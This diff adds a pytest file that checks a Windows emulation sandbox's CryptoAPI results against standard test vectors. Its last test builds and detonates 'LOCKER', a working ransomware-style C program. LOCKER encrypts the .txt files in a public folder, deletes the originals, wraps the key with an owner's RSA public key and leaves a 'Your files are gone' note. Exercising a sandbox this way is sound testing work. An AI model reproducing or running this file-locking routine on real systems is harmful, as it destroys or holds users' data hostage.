@@ -1,0 +1,381 @@
+"""Cryptography: what programs encrypt, hash and derive is what Windows makes of it, byte for byte.
+
+The expected bytes are those of the standards' own test vectors, or were made by OpenSSL.
+"""
+
+from __future__ import annotations
+
+import struct
+from pathlib import Path
+
+import pytest
+from Crypto.Cipher import AES, ARC4, PKCS1_v1_5
+from Crypto.PublicKey import RSA
+from Crypto.Util.Padding import unpad
+
+from tests.emulating import Bench
+from tests.guest_programs import build, marks, said
+
+BITS = pytest.mark.parametrize("bits", [32, 64])
+
+SHA512_OF_ABC = (
+    "ddaf35a193617abacc417349ae20413112e6fa4e89a97ea20a9eeee64b55d39a"
+    "2192992a274fc1a836ba3c23a3feebbd454d4423643ce80e2a9ac94fa54ca49f"
+)
+SHOW = r"""
+#include <stdio.h>
+#include <string.h>
+#include <wincrypt.h>
+static void show(const char *what, const BYTE *data, DWORD size)
+{
+    char line[200], *place = line + sprintf(line, "%s-", what);
+    for (DWORD i = 0; i < size && i < 64; i++)
+        place += sprintf(place, "%02x", data[i]);
+    mark(line);
+}
+"""
+
+
+@BITS
+def test_hashes_and_random_bytes(tmp_path: Path, bits: int) -> None:
+    """Each hash of "abc", an HMAC (RFC 2202, case 2), a provider that lacks SHA-256; bytes that differ."""
+    source = (
+        SHOW
+        + r"""
+    static void hash(HCRYPTPROV provider, ALG_ID algorithm)
+    {
+        HCRYPTHASH hash;
+        BYTE value[64];
+        DWORD size = 4, length;
+        if (!CryptCreateHash(provider, algorithm, 0, 0, &hash)) {
+            mark(GetLastError() == NTE_BAD_ALGID ? "unknown" : "wrong");
+            return;
+        }
+        CryptHashData(hash, (BYTE *)"a", 1, 0);
+        CryptHashData(hash, (BYTE *)"bc", 2, 0);
+        CryptGetHashParam(hash, HP_HASHSIZE, (BYTE *)&length, &size, 0);
+        size = 3;
+        if (CryptGetHashParam(hash, HP_HASHVAL, value, &size, 0) || GetLastError() != ERROR_MORE_DATA)
+            mark("wrong");
+        CryptGetHashParam(hash, HP_HASHVAL, value, &size, 0);
+        show(size == length ? "hash" : "wrong", value, size);
+        if (CryptHashData(hash, (BYTE *)"d", 1, 0) || GetLastError() != NTE_BAD_HASH_STATE)
+            mark("wrong");
+        CryptDestroyHash(hash);
+    }
+    int main(void)
+    {
+        HCRYPTPROV provider, old;
+        HCRYPTHASH hmac;
+        HCRYPTKEY key;
+        BYTE one[16] = {0}, two[16] = {0};
+        struct { BLOBHEADER head; DWORD size; BYTE key[4]; } blob =
+            {{PLAINTEXTKEYBLOB, CUR_BLOB_VERSION, 0, CALG_RC2}, 4, "Jefe"};
+        HMAC_INFO info = {CALG_MD5};
+        DWORD size = 16;
+        CryptAcquireContextW(&provider, NULL, NULL, PROV_RSA_AES, CRYPT_VERIFYCONTEXT);
+        hash(provider, CALG_MD5);
+        hash(provider, CALG_SHA1);
+        hash(provider, CALG_SHA_256);
+        hash(provider, CALG_SHA_512);
+        CryptAcquireContextA(&old, NULL, MS_ENHANCED_PROV_A, PROV_RSA_FULL, CRYPT_VERIFYCONTEXT);
+        hash(old, CALG_SHA_256);
+        hash(old, CALG_MD4);
+        blob.head.aiKeyAlg = CALG_RC4;
+        if (!CryptImportKey(provider, (BYTE *)&blob, sizeof blob, 0, CRYPT_IPSEC_HMAC_KEY, &key))
+            mark("no-key");
+        CryptCreateHash(provider, CALG_HMAC, key, 0, &hmac);
+        CryptSetHashParam(hmac, HP_HMAC_INFO, (BYTE *)&info, 0);
+        CryptHashData(hmac, (BYTE *)"what do ya want for nothing?", 28, 0);
+        CryptGetHashParam(hmac, HP_HASHVAL, one, &size, 0);
+        show("hmac", one, size);
+        CryptGenRandom(provider, 16, one);
+        CryptGenRandom(provider, 16, two);
+        mark(memcmp(one, two, 16) && memcmp(one, "AAAAAAAA", 8) ? "random" : "wrong");
+        mark(CryptReleaseContext(provider, 0) && !CryptReleaseContext(provider, 0) ? "closed" : "wrong");
+        mark(CryptAcquireContextA(&old, "mine", NULL, 1, 0) || GetLastError() != NTE_BAD_KEYSET
+             ? "wrong" : "none");
+        mark(CryptAcquireContextA(&old, "mine", NULL, 1, CRYPT_NEWKEYSET) ? "made" : "wrong");
+        mark(CryptAcquireContextA(&old, "mine", NULL, 1, 0) ? "there" : "wrong");
+        return 0;
+    }
+    """
+    )
+    assert said(tmp_path, source, bits) == [
+        "hash-900150983cd24fb0d6963f7d28e17f72",
+        "hash-a9993e364706816aba3e25717850c26c9cd0d89d",
+        "hash-ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
+        f"hash-{SHA512_OF_ABC}",
+        "unknown",
+        "hash-a448017aaf21d8525fc10ae87aa6729d",
+        "hmac-750c783e6ab0b503eaa86e310a5db738",
+        *("random", "closed", "none", "made", "there"),
+    ]
+
+
+@BITS
+def test_session_keys(tmp_path: Path, bits: int) -> None:
+    """Imported keys encrypt as the standards say, derived ones as Windows derives them; parts are a whole.
+
+    AES: SP 800-38A, F.2.5. The derived ones: "CryptDeriveKey function", calculated with OpenSSL.
+    """
+    source = (
+        SHOW
+        + r"""
+    static HCRYPTPROV provider;
+    static HCRYPTKEY given(ALG_ID algorithm, const void *bytes, DWORD size)
+    {
+        BYTE blob[64] = {PLAINTEXTKEYBLOB, CUR_BLOB_VERSION};
+        HCRYPTKEY key = 0;
+        *(ALG_ID *)(blob + 4) = algorithm;
+        *(DWORD *)(blob + 8) = size;
+        memcpy(blob + 12, bytes, size);
+        CryptImportKey(provider, blob, 12 + size, 0, CRYPT_EXPORTABLE, &key);
+        return key;
+    }
+    static HCRYPTKEY derived(ALG_ID hashed, ALG_ID algorithm, DWORD flags)
+    {
+        HCRYPTHASH hash;
+        HCRYPTKEY key = 0;
+        CryptCreateHash(provider, hashed, 0, 0, &hash);
+        CryptHashData(hash, (BYTE *)"password", 8, 0);
+        CryptDeriveKey(provider, algorithm, hash, flags, &key);
+        CryptDestroyHash(hash);
+        return key;
+    }
+    static void encrypt(const char *what, HCRYPTKEY key)
+    {
+        BYTE data[64] = "The quick brown fox";
+        DWORD size = 19;
+        if (!CryptEncrypt(key, 0, TRUE, 0, data, &size, sizeof data)) mark("failed");
+        show(what, data, size);
+        CryptDecrypt(key, 0, TRUE, 0, data, &size);
+        if (size != 19 || memcmp(data, "The quick brown fox", 19)) mark("not-back");
+    }
+    int main(void)
+    {
+        static const BYTE long_key[] =
+            "\x60\x3d\xeb\x10\x15\xca\x71\xbe\x2b\x73\xae\xf0\x85\x7d\x77\x81"
+            "\x1f\x35\x2c\x07\x3b\x61\x08\xd7\x2d\x98\x10\xa3\x09\x14\xdf\xf4";
+        BYTE data[96] = "\x6b\xc1\xbe\xe2\x2e\x40\x9f\x96\xe9\x3d\x7e\x11\x73\x93\x17\x2a"
+                        "\xae\x2d\x8a\x57\x1e\x03\xac\x9c\x9e\xb7\x6f\xac\x45\xaf\x8e\x51";
+        BYTE iv[16], blob[64];
+        DWORD size, mode = CRYPT_MODE_ECB;
+        HCRYPTKEY key;
+        for (int i = 0; i < 16; i++)
+            iv[i] = i;
+        CryptAcquireContextA(&provider, NULL, NULL, PROV_RSA_AES, CRYPT_VERIFYCONTEXT);
+        key = given(CALG_AES_256, long_key, 32);
+        CryptSetKeyParam(key, KP_IV, iv, 0);
+        size = 16;
+        CryptEncrypt(key, 0, FALSE, 0, data, &size, 16);
+        size = 16;
+        mark(CryptEncrypt(key, 0, TRUE, 0, data + 16, &size, 16) || size != 32 ? "wrong" : "too-small");
+        size = 16;
+        CryptEncrypt(key, 0, TRUE, 0, data + 16, &size, 80);
+        show("cbc", data, 32);
+        size += 16;
+        CryptDecrypt(key, 0, TRUE, 0, data, &size);
+        show(size == 32 ? "back" : "wrong", data, 32);
+        size = 17;
+        mark(CryptDecrypt(key, 0, TRUE, 0, data, &size) || GetLastError() != NTE_BAD_DATA
+             ? "wrong" : "bad-data");
+        CryptSetKeyParam(key, KP_MODE, (BYTE *)&mode, 0);
+        size = 16;
+        CryptEncrypt(key, 0, FALSE, 0, data, &size, 16);
+        show("ecb", data, 16);
+        size = sizeof blob;
+        CryptExportKey(key, 0, PLAINTEXTKEYBLOB, 0, blob, &size);
+        mark(size == 44 && !memcmp(blob + 12, long_key, 32) ? "exported" : "wrong");
+        encrypt("rc4", given(CALG_RC4, "Key", 3));
+        encrypt("3des", given(CALG_3DES, long_key, 24));
+        encrypt("des", given(CALG_DES, long_key, 8));
+        encrypt("md5-rc4", derived(CALG_MD5, CALG_RC4, 0));
+        encrypt("md5-rc4-40", derived(CALG_MD5, CALG_RC4, 40 << 16));
+        encrypt("sha1-aes128", derived(CALG_SHA1, CALG_AES_128, 0));
+        encrypt("md5-aes256", derived(CALG_MD5, CALG_AES_256, CRYPT_EXPORTABLE));
+        encrypt("sha256-aes256", derived(CALG_SHA_256, CALG_AES_256, 0));
+        mark(derived(CALG_MD5, CALG_RC4, 5000 << 16) ? "wrong" : "no-such-key");
+        size = sizeof blob;
+        mark(CryptExportKey(derived(CALG_MD5, CALG_RC4, 0), 0, PLAINTEXTKEYBLOB, 0, blob, &size)
+             ? "wrong" : "not-exportable");
+        return 0;
+    }
+    """
+    )
+    assert said(tmp_path, source, bits) == [
+        "too-small",
+        "cbc-f58c4c04d6e5f1ba779eabfb5f7bfbd69cfc4e967edb808d679f777bc6702c7d",
+        "back-6bc1bee22e409f96e93d7e117393172aae2d8a571e03ac9c9eb76fac45af8e51",
+        "bad-data",
+        "ecb-f3eed1bdb5d2a03c064b5a7e3db181f8",
+        "exported",
+        "rc4-bff712a1c641a311cc39285a08c12cb56b3234",
+        "3des-64b1cc80f2c9448a17319006042417cad6608d61f8748365",
+        "des-e7c741a7149e3369a055ab3e077a99a764cc7b130facf4d4",
+        "md5-rc4-bc904e1d042e0c821a18c51390f11671b96978",
+        "md5-rc4-40-e236ae6c5f2e0712f3e35c3ea8d7bc7143c304",
+        "sha1-aes128-e69f3e06cbb78ce8d4ecce4394fbc7b39c370d667a7b749f825f3877b737c978",
+        "md5-aes256-1381856048ba6515f25215c0307080d925cceb28fac6b1bf6f3005a05b05b2ce",
+        "sha256-aes256-1528ad1442a94377d0219e1825080219dc06379d8e74029f2157ee689a657a0d",
+        *("no-such-key", "not-exportable"),
+    ]
+
+
+@BITS
+def test_pairs_of_keys(tmp_path: Path, bits: int) -> None:
+    """A session key goes to the owner of a public key and back; what was made stays in its container."""
+    source = (
+        SHOW
+        + r"""
+    int main(void)
+    {
+        HCRYPTPROV provider, again;
+        HCRYPTKEY pair, public_key, session, back;
+        BYTE blob[2048], wrapped[512], plain[512], other[512];
+        DWORD size = sizeof blob, length = sizeof wrapped, bits, four = 4;
+        CryptAcquireContextA(&provider, "mine", NULL, PROV_RSA_FULL, CRYPT_NEWKEYSET);
+        mark(CryptGetUserKey(provider, AT_KEYEXCHANGE, &pair) || GetLastError() != NTE_NO_KEY
+             ? "wrong" : "none");
+        CryptGenKey(provider, AT_KEYEXCHANGE, 1024 << 16 | CRYPT_EXPORTABLE, &pair);
+        CryptGetKeyParam(pair, KP_KEYLEN, (BYTE *)&bits, &four, 0);
+        CryptExportKey(pair, 0, PUBLICKEYBLOB, 0, blob, &size);
+        RSAPUBKEY *numbers = (RSAPUBKEY *)(blob + 8);
+        mark(bits == 1024 && size == 148 && numbers->magic == 0x31415352 && numbers->bitlen == 1024
+             && numbers->pubexp == 65537 && (blob[147] & 0x80) ? "public" : "wrong");
+        CryptImportKey(provider, blob, size, 0, 0, &public_key);
+        CryptGenKey(provider, CALG_RC4, CRYPT_EXPORTABLE, &session);
+        CryptExportKey(session, public_key, SIMPLEBLOB, 0, NULL, &length);
+        mark(length == 140 ? "140" : "wrong");
+        CryptExportKey(session, public_key, SIMPLEBLOB, 0, wrapped, &length);
+        size = sizeof blob;
+        mark(CryptExportKey(pair, 0, PRIVATEKEYBLOB, 0, blob, &size) && size == 596 ? "private" : "wrong");
+        CryptAcquireContextA(&again, NULL, NULL, PROV_RSA_FULL, CRYPT_VERIFYCONTEXT);
+        CryptImportKey(again, blob, size, 0, 0, &pair);
+        mark(CryptImportKey(again, wrapped, length, pair, 0, &back) ? "unwrapped" : "wrong");
+        for (int i = 0; i < 40; i++)
+            plain[i] = other[i] = i;
+        length = 40;
+        CryptEncrypt(session, 0, TRUE, 0, plain, &length, 40);
+        CryptDecrypt(back, 0, TRUE, 0, plain, &length);
+        mark(length == 40 && !memcmp(plain, other, 40) ? "same" : "wrong");
+        CryptEncrypt(public_key, 0, TRUE, 0, plain, &length, sizeof plain);
+        mark(length == 128 && memcmp(plain, other, 40) ? "encrypted" : "wrong");
+        CryptDecrypt(pair, 0, TRUE, 0, plain, &length);
+        mark(length == 40 && !memcmp(plain, other, 40) ? "decrypted" : "wrong");
+        length = 200;
+        mark(CryptEncrypt(public_key, 0, TRUE, 0, plain, &length, sizeof plain) ? "wrong" : "too-long");
+        mark(CryptDecrypt(public_key, 0, TRUE, 0, plain, &length) ? "wrong" : "no-private");
+        CryptReleaseContext(provider, 0);
+        CryptAcquireContextA(&again, "mine", NULL, PROV_RSA_FULL, 0);
+        mark(CryptGetUserKey(again, AT_KEYEXCHANGE, &pair) ? "kept" : "lost");
+        return 0;
+    }
+    """
+    )
+    assert said(tmp_path, source, bits) == [
+        *("none", "public", "140", "private", "unwrapped", "same", "encrypted", "decrypted"),
+        *("too-long", "no-private", "kept"),
+    ]
+
+
+LOCKER = r"""
+#define FOLDER "C:\\Users\\Public\\Documents\\"
+static const BYTE owner[] = {OWNER};
+static void put(const char *name, const char *text, int count)
+{
+    FILE *file = fopen(name, "wb");
+    while (count--)
+        fputs(text, file);
+    fclose(file);
+}
+static void lock(HCRYPTKEY key, const char *name)
+{
+    BYTE buffer[1024 + 16];
+    char from[MAX_PATH], to[MAX_PATH];
+    DWORD size = 0, done;
+    BOOL last;
+    sprintf(from, FOLDER "%s", name);
+    sprintf(to, FOLDER "%s.locked", name);
+    HANDLE in = CreateFileA(from, GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL);
+    HANDLE out = CreateFileA(to, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
+    do {
+        ReadFile(in, buffer, 1024, &size, NULL);
+        last = size < 1024;
+        if (!CryptEncrypt(key, 0, last, 0, buffer, &size, sizeof buffer)) mark("failed");
+        WriteFile(out, buffer, size, &done, NULL);
+    } while (!last);
+    CloseHandle(in);
+    CloseHandle(out);
+    DeleteFileA(from);
+}
+static void tell(const char *what, const char *name)
+{
+    BYTE buffer[32];
+    DWORD size;
+    HANDLE file = CreateFileA(name, GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL);
+    while (ReadFile(file, buffer, 32, &size, NULL) && size)
+        show(what, buffer, size);
+    CloseHandle(file);
+}
+int main(void)
+{
+    HCRYPTPROV provider;
+    HCRYPTKEY key, owner_key;
+    BYTE wrapped[512];
+    DWORD size = sizeof wrapped, done;
+    WIN32_FIND_DATAA found;
+    put(FOLDER "letter.txt", "Dear Sir or Madam\r\n", 100);
+    put(FOLDER "empty.txt", "", 0);
+    CryptAcquireContextA(&provider, NULL, NULL, PROV_RSA_AES, CRYPT_VERIFYCONTEXT);
+    CryptImportKey(provider, owner, sizeof owner, 0, 0, &owner_key);
+    CryptGenKey(provider, ALGORITHM, CRYPT_EXPORTABLE, &key);
+    HANDLE search = FindFirstFileA(FOLDER "*.txt", &found);
+    do
+        lock(key, found.cFileName);
+    while (FindNextFileA(search, &found));
+    FindClose(search);
+    CryptExportKey(key, owner_key, SIMPLEBLOB, 0, wrapped, &size);
+    HANDLE out = CreateFileA(FOLDER "key.bin", GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
+    WriteFile(out, wrapped, size, &done, NULL);
+    CloseHandle(out);
+    put(FOLDER "READ_ME.html", "Your files are gone.", 1);
+    tell("key", FOLDER "key.bin");
+    tell("letter", FOLDER "letter.txt.locked");
+    tell("empty", FOLDER "empty.txt.locked");
+    return 0;
+}
+"""
+
+
+@BITS
+@pytest.mark.parametrize("algorithm", ["CALG_AES_256", "CALG_RC4"])
+def test_a_program_that_locks_files(tmp_path: Path, bits: int, algorithm: str) -> None:
+    """The files that it leaves can be read with its owner's private key, and with nothing else."""
+    owner = RSA.generate(2048)
+    modulus = owner.n.to_bytes(256, "little")
+    blob = struct.pack("<BBHI4sII", 6, 2, 0, 0xA400, b"RSA1", 2048, owner.e) + modulus
+    source = SHOW + LOCKER.replace("OWNER", ",".join(map(str, blob))).replace("ALGORITHM", algorithm)
+    run = Bench(tmp_path).detonate(build(tmp_path, source, bits))
+    assert run.outcome.reason is None
+    files: dict[str, bytes] = {}
+    for mark in marks(run):
+        name, _, data = mark.partition("-")
+        files[name] = files.get(name, b"") + bytes.fromhex(data)
+    key = PKCS1_v1_5.new(owner).decrypt(files["key"][12:][::-1], b"")
+    letter = b"Dear Sir or Madam\r\n" * 100
+    if algorithm == "CALG_RC4":
+        assert ARC4.new(key).decrypt(files["letter"]) == letter
+        assert not files.get("empty")
+    else:
+        for name, text in {"letter": letter, "empty": b""}.items():
+            assert unpad(AES.new(key, AES.MODE_CBC, bytes(16)).decrypt(files[name]), 16) == text
+    touched = [line["FileName"].rpartition("\\")[2] for line in run.lines("filetracer", "NtWriteFile")]
+    assert {"letter.txt.locked", "key.bin", "READ_ME.html"} <= set(touched)
+    deleted = {
+        line["FileName"].rpartition("\\")[2] for line in run.lines("filetracer", "NtSetInformationFile")
+    }
+    assert deleted == {"letter.txt", "empty.txt"}
+    calls = [line["Method"] for line in run.lines("apimon")]
+    assert {"CryptAcquireContextA", "CryptImportKey", "CryptGenKey", "CryptExportKey"} <= set(calls)
+    assert calls.count("CryptEncrypt") == 3
